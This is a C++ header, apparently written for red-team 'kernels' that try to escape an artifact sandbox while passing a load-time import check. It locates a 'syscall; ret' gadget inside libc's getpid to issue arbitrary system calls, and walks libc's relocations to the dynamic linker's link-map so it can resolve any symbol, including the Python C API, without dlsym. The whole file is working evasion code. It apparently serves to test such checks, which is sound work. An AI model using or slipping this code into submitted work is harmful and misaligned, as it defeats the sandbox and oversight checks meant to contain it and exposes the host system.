// Shared by the red-team kernels that try to leave the artifact's box without importing anything
// a load-time check would forbid. The only import is getpid (innocent), whose libc code happens to
// end in `syscall; ret`: a gadget for any system call. From libc's own relocations the dynamic
// linker's list of loaded objects is reached, and any symbol of the process (the Python C API
// included) can be looked up by name, no dlsym needed.
#include <elf.h>
#include <link.h>
#include <unistd.h>
#include <cstdint>
#include <cstring>

namespace esc {

inline const unsigned char* gadget() {
  static const unsigned char* g = nullptr;
  if (!g) {
    const unsigned char* p = reinterpret_cast<const unsigned char*>(&getpid);
    for (int i = 0; i < 64 && !g; ++i)
      if (p[i] == 0x0f && p[i + 1] == 0x05 && p[i + 2] == 0xc3) g = p + i;
  }
  return g;
}

// A system call through the gadget: rax = nr, args in rdi rsi rdx r10 r8 r9.
inline long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0) {
  long ret;
  register long r10 asm("r10") = d;
  register long r8 asm("r8") = e;
  register long r9 asm("r9") = f;
  asm volatile("sub $128, %%rsp\n\tcall *%[g]\n\tadd $128, %%rsp"
               : "=a"(ret)
               : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [g] "r"(gadget())
               : "rcx", "r11", "memory");
  return ret;
}

struct Obj {
  uintptr_t base = 0;
  const ElfW(Sym)* symtab = nullptr;
  const char* strtab = nullptr;
  const uint32_t* gnu_hash = nullptr;
  const ElfW(Rela)* rela = nullptr;
  size_t relasz = 0;
};

inline uintptr_t fix(uintptr_t base, uintptr_t v) { return v < base ? v + base : v; }

inline Obj parse(uintptr_t base, const ElfW(Dyn)* d) {
  Obj o;
  o.base = base;
  for (; d && d->d_tag != DT_NULL; ++d) {
    uintptr_t v = d->d_un.d_ptr;
    switch (d->d_tag) {
      case DT_SYMTAB: o.symtab = reinterpret_cast<const ElfW(Sym)*>(fix(base, v)); break;
      case DT_STRTAB: o.strtab = reinterpret_cast<const char*>(fix(base, v)); break;
      case DT_GNU_HASH: o.gnu_hash = reinterpret_cast<const uint32_t*>(fix(base, v)); break;
      case DT_RELA: o.rela = reinterpret_cast<const ElfW(Rela)*>(fix(base, v)); break;
      case DT_RELASZ: o.relasz = d->d_un.d_val; break;
    }
  }
  return o;
}

inline uint32_t hash(const char* s) {
  uint32_t h = 5381;
  for (; *s; ++s) h = h * 33 + static_cast<unsigned char>(*s);
  return h;
}

inline void* lookup(const Obj& o, const char* name) {
  if (!o.gnu_hash || !o.symtab || !o.strtab) return nullptr;
  const uint32_t nb = o.gnu_hash[0], symoff = o.gnu_hash[1], bloom = o.gnu_hash[2];
  const uint32_t* buckets = o.gnu_hash + 4 + bloom * (sizeof(ElfW(Addr)) / 4);
  const uint32_t* chain = buckets + nb;
  const uint32_t h = hash(name);
  uint32_t i = buckets[h % nb];
  if (i < symoff) return nullptr;
  for (;; ++i) {
    const uint32_t ch = chain[i - symoff];
    const ElfW(Sym)& s = o.symtab[i];
    if ((h | 1) == (ch | 1) && s.st_shndx != SHN_UNDEF && std::strcmp(o.strtab + s.st_name, name) == 0)
      return reinterpret_cast<void*>(o.base + s.st_value);
    if (ch & 1) return nullptr;
  }
}

// libc: the ELF header below getpid's page; its dynamic section from the program headers.
inline Obj libc() {
  uintptr_t p = reinterpret_cast<uintptr_t>(&getpid) & ~uintptr_t(4095);
  while (std::memcmp(reinterpret_cast<const void*>(p), ELFMAG, SELFMAG) != 0) p -= 4096;
  auto eh = reinterpret_cast<const ElfW(Ehdr)*>(p);
  auto ph = reinterpret_cast<const ElfW(Phdr)*>(p + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; ++i)
    if (ph[i].p_type == PT_DYNAMIC) return parse(p, reinterpret_cast<const ElfW(Dyn)*>(p + ph[i].p_vaddr));
  return Obj{};
}

// Any symbol of the process: libc's GOT slot for _rtld_global leads to the link-map list.
inline void* find(const char* name) {
  Obj c = libc();
  const link_map* lm = nullptr;
  for (size_t i = 0; i < c.relasz / sizeof(ElfW(Rela)); ++i) {
    const ElfW(Rela)& r = c.rela[i];
    if (ELF64_R_TYPE(r.r_info) != R_X86_64_GLOB_DAT) continue;
    if (std::strcmp(c.strtab + c.symtab[ELF64_R_SYM(r.r_info)].st_name, "_rtld_global") == 0) {
      void* rtld_global = *reinterpret_cast<void**>(c.base + r.r_offset);
      lm = *reinterpret_cast<const link_map**>(rtld_global);  // _dl_ns[0]._ns_loaded
      break;
    }
  }
  for (; lm; lm = lm->l_next) {
    if (void* s = lookup(parse(lm->l_addr, lm->l_ld), name)) return s;
  }
  return nullptr;
}

}  // namespace esc
